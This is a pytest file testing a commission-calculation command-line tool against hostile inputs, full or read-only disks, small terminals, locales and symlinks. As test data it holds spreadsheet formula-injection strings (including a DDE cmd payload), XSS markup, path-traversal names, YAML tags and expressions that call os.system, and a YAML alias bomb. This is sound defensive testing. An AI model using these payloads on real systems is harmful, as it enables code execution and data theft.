"""What is around the program: full and read-only disks, readers that leave, small terminals, other languages, strangers' plans: F209 to F238."""

from __future__ import annotations

import csv
import json
import os
import re
import resource
import shutil
import stat
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path

import pytest
from small_project import FILES, HEADER, Fault, program, write_small

SOURCE = Path(__file__).parents[2] / "src"
EXAMPLE = Path(__file__).parents[2] / "examples" / "first-month"
FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "＝1", '=HYPERLINK("http://x/?"&A1)', "=1+1")
MARKUP = ("<script>alert(1)</script>", '" onload="x', "</style>", "[x](javascript:alert(1))", "a|b", "<img src=x>")
PATHS = (
    "../../etc/passwd",
    "..\\..\\x",
    "/abs",
    "a/b",
    "CON",
    "NUL",
    "aux.txt",
    "end.",
    "a:b",
    "a?b",
    "Ab",
    "é" * 120,
    "😀 x",
)
NAMES = (*FORMULAS, *MARKUP, *PATHS)


def quoted(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@pytest.fixture(scope="module")
def nasty(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project in which every payee and every deal has a name that means harm, with its run and statements."""
    folder = tmp_path_factory.mktemp("nasty") / "p"
    files = {
        "deals": HEADER + "".join(f"{quoted(n)},{quoted(n)},2026-01-05,100.00\n" for n in NAMES),
        "payees": "payee_id,name\n" + "".join(f"{quoted(n)},{quoted(n)}\n" for n in NAMES),
        "assignments": "payee_id,plan,from\n" + "".join(f"{quoted(n)},sales,2026-01-01\n" for n in NAMES),
    }
    write_small(folder, Fault("", {n: t.encode() for n, t in files.items()}))
    assert program("calculate", "--period", "2026-01", "-q", folder=folder).returncode == 0
    done = program("statements", "--format", "html,text,md,json", folder=folder)
    assert done.returncode == 0, done.stderr
    return folder


def test_f209_to_f211_no_cell_of_a_table_for_people_is_a_formula(nasty: Path) -> None:
    tables = sorted((nasty / "out" / "2026-01").glob("*.csv"))
    assert {"lines.csv", "payouts.csv"} <= {t.name for t in tables}
    cells = [c for t in tables for row in csv.reader(t.open(encoding="utf-8", newline="")) for c in row]
    assert {"'" + name for name in FORMULAS} <= set(cells)
    assert [c for c in cells if re.match(r"[=+\-@\t\r\n＝]", c) and not re.fullmatch(r"-?[0-9.]+", c)] == []


def test_f212_to_f216_statements_have_safe_names_of_their_own_inside_the_folder(nasty: Path) -> None:
    folder = nasty / "out" / "2026-01" / "statements"
    files = [p for p in folder.rglob("*") if p.is_file()]
    assert sorted(p.name for p in nasty.parent.iterdir()) == ["p"]
    assert all(p.resolve().is_relative_to(folder.resolve()) and not p.is_symlink() for p in files)
    assert [p.name for p in files if not re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]{0,200}", p.name) or p.name.endswith(".")] == []
    pages = [p.name.casefold() for p in files if p.suffix == ".json" and p.stem not in ("index", "roster")]
    assert len(set(pages)) == len(pages) >= len(NAMES)
    stems = {p.name.split(".")[0].upper() for p in files}
    assert not stems & {"CON", "NUL", "AUX", "PRN", "COM1", "LPT1"}


def test_f217_and_f218_no_name_is_markup(nasty: Path) -> None:
    folder = nasty / "out" / "2026-01" / "statements"
    html = "".join(p.read_text(encoding="utf-8") for p in folder.rglob("*.html"))
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert not re.search(r"<script>alert|<img|\bonload=\"x", html)
    markdown = "".join(p.read_text(encoding="utf-8") for p in folder.rglob("*.md"))
    assert "javascript" in markdown
    assert "[x](javascript" not in markdown


def test_f219_only_the_owner_may_read_a_run_and_its_statements(nasty: Path) -> None:
    out = nasty / "out" / "2026-01"
    assert {stat.S_IMODE(p.stat().st_mode) for p in out.rglob("*") if p.is_file()} == {0o600}
    assert {stat.S_IMODE(p.stat().st_mode) for p in (out, out / "statements")} == {0o700}


@pytest.mark.parametrize("where", ["out", "out/2026-01", "out/2026-01/statements"])
def test_f220_a_folder_of_results_that_is_a_link_is_refused_and_not_followed(where: str, tmp_path: Path) -> None:
    folder, elsewhere = write_small(tmp_path / "p", Fault("")), tmp_path / "elsewhere"
    verb = ("calculate", "--period", "2026-01")
    if where.endswith("statements"):
        assert program(*verb, folder=folder).returncode == 0
        verb = ("statements",)
    elsewhere.mkdir()
    (elsewhere / "kept.txt").write_text("theirs")
    link = folder / where
    link.parent.mkdir(exist_ok=True)
    link.symlink_to(elsewhere)
    done = program(*verb, folder=folder)
    assert done.returncode in (1, 3), done.stdout
    assert re.search(r"error\[O[0-9]{3}\]", done.stderr)
    assert [p.name for p in elsewhere.iterdir()] == ["kept.txt"]
    assert link.is_symlink()


def test_f221_statements_of_another_run_are_never_left_beside_new_ones(tmp_path: Path) -> None:
    folder = write_small(tmp_path / "p", Fault(""))
    for deals in (FILES["deals"], FILES["deals"].replace(b"bob", b"cy")):
        (folder / "data" / "deals.csv").write_bytes(deals)
        assert program("calculate", "--period", "2026-01", folder=folder).returncode == 0
        assert not (folder / "out" / "2026-01" / "statements").exists()
        assert program("statements", folder=folder).returncode == 0
    texts = "".join(p.read_text() for p in (folder / "out" / "2026-01" / "statements").glob("*.html"))
    assert "D2" in texts
    names = {p.name for p in (folder / "out").iterdir()}
    assert names == {"2026-01"}


def test_f222_results_that_would_take_the_place_of_inputs_are_refused(tmp_path: Path) -> None:
    folder = write_small(tmp_path / "p", Fault("", {}, {"deals": {"file": "out/2026-01/deals.csv"}}))
    (folder / "out" / "2026-01").mkdir(parents=True)
    (folder / "out" / "2026-01" / "deals.csv").write_bytes(FILES["deals"])
    done = program("calculate", "--period", "2026-01", folder=folder)
    assert done.returncode in (1, 3)
    assert re.search(r"error\[O[0-9]{3}\]", done.stderr)
    assert (folder / "out" / "2026-01" / "deals.csv").read_bytes() == FILES["deals"]


VERBS = {
    "validate": ("validate",),
    "validate wrong": ("validate", "wrong"),
    "calculate": ("calculate", "--period", "2026-01"),
    "explain": ("explain", "payee", "E105", "--period", "2026-01"),
    "why not": ("explain", "--why-not", "B-1041", "--payee", "E102", "--period", "2026-01"),
    "statements": ("statements", "--only", "E105"),
    "test": ("test",),
    "schema": ("schema", "plan"),
    "dry-run": ("dry-run", "plans", "--against", "2026-01"),
    "code": ("explain", "code", "K120"),
    "help": ("--help",),
}


@pytest.fixture(scope="module")
def month(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("month") / "p"
    shutil.copytree(EXAMPLE, folder, ignore=shutil.ignore_patterns("out"))
    shutil.copytree(folder, folder / "wrong")
    (folder / "wrong" / "plans" / "manager.yaml").write_text("plan: manager\nrate: 5 %\n")
    assert program("calculate", "--period", "2026-01", "-q", folder=folder).returncode == 0
    return folder


def piped(command: str, folder: Path, arguments: tuple[str, ...]) -> subprocess.CompletedProcess[str]:
    """Run a shell command in which `$@` is the program with its arguments."""
    environment = {**os.environ, "PYTHONPATH": str(SOURCE)}
    whole = ("bash", "-o", "pipefail", "-c", command, "-", sys.executable, "-m", "commcalc", *arguments)
    return subprocess.run(whole, cwd=folder, env=environment, capture_output=True, text=True, check=False, timeout=120)


@pytest.mark.parametrize("verb", VERBS)
def test_f223_a_reader_that_leaves_and_a_closed_or_full_output_are_no_crash(verb: str, month: Path) -> None:
    for command in ('"$@" | head -c 1 > /dev/null', '"$@" >&- 2>&-', '"$@" > /dev/full'):
        done = piped(command, month, VERBS[verb])
        assert "Traceback" not in done.stderr, (command, done.stderr)
        assert "Exception ignored" not in done.stderr, (command, done.stderr)
        assert done.returncode in (0, 1, 3, 141), (command, done.returncode, done.stderr)
    plain = program(*VERBS[verb], folder=month)
    assert done.returncode == (3 if plain.stdout else plain.returncode), done.stderr  # a full disk is no success


SMALL: Mapping[str, str] = {"LC_ALL": "C", "PYTHONIOENCODING": "ascii", "COLUMNS": "20", "NO_COLOR": "1", "TERM": "dumb"}


@pytest.mark.parametrize("verb", VERBS)
def test_f224_a_small_terminal_without_letters_or_colours_shows_all(verb: str, month: Path) -> None:
    plain = program(*VERBS[verb], folder=month)
    for more in (SMALL, {"COLUMNS": "nonsense", "TERM": ""}):
        done = program(*VERBS[verb], folder=month, **more)
        assert done.returncode == plain.returncode
        assert "\x1b" not in done.stdout + done.stderr
        amounts = set(re.findall(r"[0-9,]+\.[0-9]{2}\b", plain.stdout))
        assert amounts <= set(re.findall(r"[0-9,]+\.[0-9]{2}\b", done.stdout))


def test_f225_no_amount_and_no_name_stands_in_what_is_told_of_a_fault_of_ours(tmp_path: Path) -> None:
    folder = write_small(tmp_path / "p", Fault("", {"deals": (HEADER + "D1,ann,2026-01-05,98765.43\n").encode()}))
    code = (
        "import sys\nsys.argv = ['commcalc', 'calculate', '--period', '2026-01']\nimport commcalc.engine.settle as s\n"
        "def broken(*a, **k):\n    amount, payee = '98765.43', 'ann'\n    raise KeyError(f'{amount} of {payee}')\n"
        "import commcalc.engine.part as part\npart.settled = broken\nfrom commcalc.cli.main import run\nrun()\n"
    )
    environment = {**os.environ, "PYTHONPATH": str(SOURCE)}
    done = subprocess.run([sys.executable, "-c", code], cwd=folder, env=environment, capture_output=True, text=True, check=False)
    assert done.returncode == 70
    for secret in ("98765.43", "ann", "Traceback"):
        assert secret not in done.stdout + done.stderr
    assert not (folder / "out").exists()


@pytest.mark.parametrize("locale", ["tr_TR.UTF-8", "de_DE.UTF-8", "ar_EG.UTF-8", "C"])
def test_f227_names_are_matched_alike_in_every_language(locale: str, tmp_path: Path) -> None:
    deals = HEADER + "I1,ILKIN,2026-01-05,1234567.89\ni2,ilkin,2026-01-06,100\n"
    people = {
        "payees": b"payee_id,name,aliases\nilkin,Ilkin,ILKIN\n",
        "assignments": b"payee_id,plan,from\nilkin,sales,2026-01-01\n",
    }
    folder = write_small(tmp_path / "p", Fault("", {"deals": deals.encode(), **people}))
    done = program("calculate", "--period", "2026-01", folder=folder, LC_ALL=locale, LANG=locale)
    assert done.returncode == 0, done.stderr
    assert (
        (folder / "out" / "2026-01" / "payouts.csv")
        .read_text()
        .splitlines()[1]
        .startswith("ilkin,Ilkin,sales,USD,0.00,0.00,61733.39")
    )


def test_f228_no_hash_seed_changes_a_byte(tmp_path: Path) -> None:
    folder, found = write_small(tmp_path / "p", Fault("")), set()
    for seed in (0, 1, 2, 3, 17, 51, 100):
        assert program("calculate", "--period", "2026-01", "-q", folder=folder, PYTHONHASHSEED=str(seed)).returncode == 0
        found.add(tuple(p.read_bytes() for p in sorted((folder / "out" / "2026-01").iterdir()) if p.is_file()))
    assert len(found) == 1


def limited(folder: Path, *arguments: str, **how: object) -> subprocess.CompletedProcess[str]:
    environment = {**os.environ, "PYTHONPATH": str(SOURCE), "PYTHONDONTWRITEBYTECODE": "1"}
    command = [sys.executable, "-m", "commcalc", *arguments]
    done = subprocess.run(command, cwd=folder, env=environment, capture_output=True, text=True, check=False, **how)  # type: ignore[call-overload]
    assert "Traceback" not in done.stdout + done.stderr, done.stderr
    return done


WRITES = {
    "calculate": ("calculate", "--period", "2026-01"),
    "statements": ("statements",),
    "dry-run": ("dry-run", "plans", "--against", "2026-01", "-o", "report.html"),
    "test": ("test", "--junit", "tests.xml"),
    "schema": ("schema", "plan", "--output", "plan.json"),
    "init": ("init", "new"),
}


def everything(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in folder.rglob("*") if p.is_file()}


@pytest.mark.parametrize("verb", WRITES)
@pytest.mark.parametrize("most", [0, 700])
def test_a_disk_without_room_ends_with_3_and_leaves_everything_as_it_was(
    verb: str, most: int, month: Path, tmp_path: Path
) -> None:
    folder = Path(shutil.copytree(month, tmp_path / "p", symlinks=True))
    before = everything(folder)
    done = limited(folder, *WRITES[verb], preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (most, most)))
    assert done.returncode == 3, (done.returncode, done.stdout, done.stderr)
    assert re.search(r"error\[O001\]|cannot be written", done.stderr), done.stderr
    left = everything(folder)
    assert {n: b for n, b in left.items() if not n.startswith("new/")} == before
    assert not [n for n in left if n.startswith("new/") and left[n] == b""] or verb == "init"


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() == 0, reason="nothing is forbidden to this user")
@pytest.mark.parametrize("verb", WRITES)
def test_a_folder_that_may_not_be_written_ends_with_3(verb: str, month: Path, tmp_path: Path) -> None:
    folder = Path(shutil.copytree(month, tmp_path / "p", symlinks=True))
    before = everything(folder)
    for path in (folder, *(p for p in folder.rglob("*") if p.is_dir())):
        path.chmod(0o555)
    try:
        done = limited(folder, *WRITES[verb])
    finally:
        for path in (folder, *(p for p in folder.rglob("*") if p.is_dir())):
            path.chmod(0o755)
    assert done.returncode == 3, (done.returncode, done.stdout, done.stderr)
    assert everything(folder) == before


AUDITED = """import os, sys
seen = []
WATCHED = ("socket.", "subprocess.", "os.system", "os.exec", "os.fork", "os.posix_spawn", "ctypes.dlopen")
def told(event, given):
    if event == "open" and isinstance(given[0], str):
        seen.append(("write " if given[2] & (os.O_WRONLY | os.O_RDWR) else "read ") + os.path.realpath(given[0]))
    elif event.startswith(WATCHED) and not event.startswith("ctypes"):
        seen.append(event)
from commcalc.cli.main import run
sys.addaudithook(told)
sys.argv = ["commcalc", *sys.argv[1:]]
try:
    run()
except SystemExit as end:
    print(end.code or 0, *seen, sep="\\n", file=open(os.environ["SEEN"], "w"))
"""


def audited(folder: Path, seen: Path, *arguments: str) -> list[str]:
    """Run the program and return its status and every file it opened, every process and connection that it made."""
    environment = {**os.environ, "PYTHONPATH": str(SOURCE), "SEEN": str(seen), "PYTHONDONTWRITEBYTECODE": "1"}
    done = subprocess.run([sys.executable, "-c", AUDITED, *arguments], cwd=folder, env=environment, capture_output=True, text=True, check=False, timeout=60)  # fmt: skip
    assert seen.exists(), done.stderr
    return seen.read_text().splitlines()


@pytest.mark.parametrize("verb", ["validate", "calculate", "test", "statements", "why not"])
def test_f235_no_verb_reaches_for_the_network_or_another_program(verb: str, month: Path, tmp_path: Path) -> None:
    status, *seen = audited(month, tmp_path / "seen", *VERBS[verb])
    assert status == "0"
    assert [s for s in seen if not s.startswith(("read ", "write "))] == []


def test_f235_a_plan_test_gives_the_same_on_every_day(month: Path, tmp_path: Path) -> None:
    code = "import datetime, time\n"
    found = set()
    for day in ("1999-12-31", "2100-02-28"):
        site = tmp_path / day
        site.mkdir()
        (site / "sitecustomize.py").write_text(
            f"{code}class Day(datetime.date):\n    @classmethod\n    def today(cls):\n        return cls.fromisoformat('{day}')\n"
            "class Moment(datetime.datetime):\n    @classmethod\n    def now(cls, tz=None):\n"
            f"        return cls.fromisoformat('{day}T23:59:59')\ndatetime.date, datetime.datetime = Day, Moment\n"
        )
        environment = {**os.environ, "PYTHONPATH": f"{site}{os.pathsep}{SOURCE}"}
        done = subprocess.run([sys.executable, "-m", "commcalc", "test", "--format", "json"], cwd=month, env=environment, capture_output=True, text=True, check=False)  # fmt: skip
        assert done.returncode == 0, done.stderr
        found.add(done.stdout)
    assert len(found) == 1


STRANGERS = {
    "any path": "tables: {deals: {file: /etc/passwd}}",
    "upwards": "tables: {deals: {file: ../../../etc/passwd}, payees: {file: ../secret.csv}}",
    "a tag": "x: !!python/object/apply:os.system ['touch run']",
    "an expression": "where: __import__('os').system('touch run')",
    "a bomb": "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c]",
    "very deep": "x: " + "[" * 20_000,
    "very long": "x: '" + "y" * 3_000_000 + "'",
    "a long sum": "measures: {m: {sum: " + "amount + " * 5_000 + "1, window: month}}",
}


@pytest.mark.parametrize("what", STRANGERS)
@pytest.mark.parametrize("where", ["commcalc.yaml", "plans/sales.yaml"])
def test_f238_a_strangers_project_is_read_and_nothing_else_is(what: str, where: str, tmp_path: Path) -> None:
    folder = write_small(tmp_path / "p", Fault(""))
    (folder / where).write_text(
        STRANGERS[what] + "\n" + (folder / where).read_text() if where.startswith("plans") else STRANGERS[what]
    )
    (folder / "plans" / "link.yaml").symlink_to("/etc/passwd")
    before = everything(folder)
    status, *seen = audited(folder, tmp_path / "seen", "validate", "--format", "json")
    assert status in ("1", "3")
    allowed = tuple(f"read {os.path.realpath(p)}" for p in (folder, SOURCE, sys.prefix, sys.base_prefix, "/usr/share/zoneinfo"))
    assert [s for s in seen if not s.startswith(allowed)] == []
    assert everything(folder) == before


@pytest.mark.parametrize("ends", ["\r\n", "\n"])
def test_line_ends_of_windows_in_every_file_change_no_figure(ends: str, month: Path, tmp_path: Path) -> None:
    folder = tmp_path / "p"
    shutil.copytree(EXAMPLE, folder, ignore=shutil.ignore_patterns("out"))
    for path in (p for p in folder.rglob("*") if p.suffix in (".csv", ".yaml")):
        path.write_bytes(path.read_bytes().replace(b"\r\n", b"\n").replace(b"\n", ends.encode()))
    assert program("validate", "--data", folder=folder).returncode == 0
    assert program("test", folder=folder).returncode == 0
    assert program("calculate", "--period", "2026-01", "-q", folder=folder).returncode == 0
    for name in ("lines.csv", "payouts.csv", "exceptions.csv"):
        assert (folder / "out" / "2026-01" / name).read_bytes() == (month / "out" / "2026-01" / name).read_bytes()
    assert json.loads((folder / "out" / "2026-01" / "manifest.json").read_text())["period"] == "2026-01"
